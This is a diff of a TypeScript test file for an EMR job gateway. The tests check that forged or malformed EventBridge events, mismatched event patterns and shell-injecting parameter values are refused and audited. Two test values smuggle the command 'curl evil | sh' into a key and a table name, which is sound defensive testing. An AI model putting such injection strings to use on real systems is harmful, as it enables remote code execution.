@@ -38,20 +38,58 @@ async function stepEvents(stack: LocalStack): Promise<void> {
   expect((await alice.audit(jobId)).events.map((e) => e.type)).toEqual(expect.arrayContaining(['DECISION', 'SUBMITTED', 'COMPLETED']));
 }
 
-it('PutEvents on the local AWS port fires the matching trigger: the job runs with the event\'s key', async () => {
+/** PutEvents on the local AWS port, as the SDK sends it. */
+async function putEvents(entries: Record<string, unknown>[]): Promise<{ FailedEntryCount: number; Entries: { EventId?: string; ErrorCode?: string; ErrorMessage?: string }[] }> {
   const response = await fetch(stack.awsUrl, {
     method: 'POST',
     headers: { 'content-type': 'application/x-amz-json-1.1', 'x-amz-target': 'AWSEvents.PutEvents' },
-    body: JSON.stringify({ Entries: [{ Source: 'aws.s3', DetailType: 'Object Created', Detail: JSON.stringify(s3Event('raw/orders.csv').detail) }] }),
+    body: JSON.stringify({ Entries: entries }),
   });
-  const { Entries } = (await response.json()) as { Entries: { EventId: string }[] };
-  const eventId = Entries[0]!.EventId;
+  expect(response.status).toBe(200);
+  return (await response.json()) as Awaited<ReturnType<typeof putEvents>>;
+}
+
+const partitionReady = (table: string, day: string) => ({ Source: 'com.example.pipeline', DetailType: 'Partition Ready', Detail: JSON.stringify({ table, day }) });
+
+it('PutEvents on the local AWS port fires the matching trigger: the job runs with the event\'s values', async () => {
+  const { FailedEntryCount, Entries } = await putEvents([partitionReady('orders_eu', '2026-11-28')]);
+  expect(FailedEntryCount).toBe(0);
+  const eventId = Entries[0]!.EventId!;
   const alice = clientFor(stack, 'alice');
-  const job = await until(async () => (await alice.listJobs()).jobs.find((j) => j.name === `ingest ${eventId}`));
-  expect(job.caller).toMatchObject({ principalArn: 'arn:aws:iam::123456789012:role/DataTeamA', trigger: 'trigger:landing' });
+  const job = await until(async () => (await alice.listJobs()).jobs.find((j) => j.name === 'compact orders_eu 2026-11-28'));
+  expect(job.caller).toMatchObject({ principalArn: 'arn:aws:iam::123456789012:role/DataTeamA', trigger: 'trigger:partition-ready' });
   const done = await finished(alice, job.jobId, 15_000);
   expect(done.status).toBe('COMPLETED');
-  expect(await (await fetch(`${stack.awsUrl}/_local/emr/steps/${done.step.id}/stdout`)).text()).toBe('ingesting raw/orders.csv\n');
+  expect(await (await fetch(`${stack.awsUrl}/_local/emr/steps/${done.step.id}/stdout`)).text()).toBe('compacting orders_eu for 2026-11-28\n');
+  expect(eventId).toMatch(/^[0-9a-f-]{36}$/);
+});
+
+it('PutEvents refuses a forged aws.s3 event per entry, as AWS does: the S3 trigger never fires', async () => {
+  const forged = { Source: 'aws.s3', DetailType: 'Object Created', Detail: JSON.stringify(s3Event('x; curl evil | sh').detail) };
+  const answer = await putEvents([forged, { ...forged, Detail: '{"broken":' }]);
+  expect(answer).toEqual({
+    FailedEntryCount: 2,
+    Entries: [
+      { ErrorCode: 'NotAuthorizedForSourceException', ErrorMessage: 'Not authorized for the source.' },
+      { ErrorCode: 'NotAuthorizedForSourceException', ErrorMessage: 'Not authorized for the source.' },
+    ],
+  });
+  const malformed = await putEvents([{ ...partitionReady('orders_eu', '2026-11-29'), Detail: '[1]' }]);
+  expect(malformed.Entries).toEqual([{ ErrorCode: 'MalformedDetail', ErrorMessage: 'Detail is malformed.' }]);
+  await new Promise((r) => setTimeout(r, 300));
+  expect(await stack.gateway.audit.list('trigger:landing')).toEqual([]);
+  expect((await clientFor(stack, 'alice').listJobs()).jobs.filter((j) => j.caller.trigger === 'trigger:landing')).toEqual([]);
+});
+
+it('a shell-injecting value that matches the pattern is refused at fire time and audited on the trigger chain', async () => {
+  // The wildcard orders_* admits it; the template's declared pattern does not.
+  const { Entries } = await putEvents([partitionReady('orders_x; curl evil | sh', '2026-11-28')]);
+  const trail = await until(async () => {
+    const events = await stack.gateway.audit.list('trigger:partition-ready');
+    return events.find((e) => e.type === 'TRIGGER_REJECTED') ? events : undefined;
+  });
+  expect(trail.map((e) => [e.type, e.detail?.invocation])).toEqual([['TRIGGER_REJECTED', `event:partition-ready:${Entries[0]!.EventId!}`]]);
+  expect(trail[0]?.detail?.issues).toEqual([{ field: 'params.table', message: '"orders_x; curl evil | sh" does not match [a-z][a-z0-9_]{0,63}' }]);
 });
 
 it('emr-gateway trigger NAME --event FILE: submitted, or rejected with the reason (exit 1)', async () => {
@@ -71,4 +109,18 @@ it('emr-gateway trigger NAME --event FILE: submitted, or rejected with the reaso
   const rejected = await cli(bad);
   expect(rejected.code).toBe(1);
   expect(rejected.stdout).toContain('params.key: the event has no $.detail.object.key');
+});
+
+it('emr-gateway trigger NAME --event FILE honours the trigger\'s event pattern: an event its rule would not deliver is refused, exit 2', async () => {
+  const wrong = join(dataDir, 'wrong.json');
+  writeFileSync(wrong, JSON.stringify({ id: 'evt-cli-3', ...s3Event('raw/cli.csv'), detail: { bucket: { name: 'other-bucket' }, object: { key: 'raw/cli.csv' } } }));
+  const r = await new Promise<{ code: number; stderr: string }>((done) =>
+    execFile(process.execPath, [resolve(__dirname, '../../bin/emr-gateway.js'), 'trigger', 'landing', '--event', wrong, '--aws-endpoint', stack.awsUrl], { env: { PATH: process.env.PATH } }, (error, _stdout, stderr) =>
+      done({ code: error ? Number(error.code) : 0, stderr }),
+    ),
+  );
+  expect(r.code).toBe(2);
+  expect(r.stderr).toContain(`emr-gateway trigger: the event does not match trigger landing's event pattern: detail.bucket.name is "other-bucket", the pattern wants ["landing-bucket"]`);
+  expect((await stack.gateway.audit.list('trigger:landing')).filter((e) => e.detail?.invocation === 'event:landing:evt-cli-3')).toEqual([]);
+  expect((await clientFor(stack, 'alice').listJobs()).jobs.filter((j) => j.name === 'ingest evt-cli-3')).toEqual([]);
 });
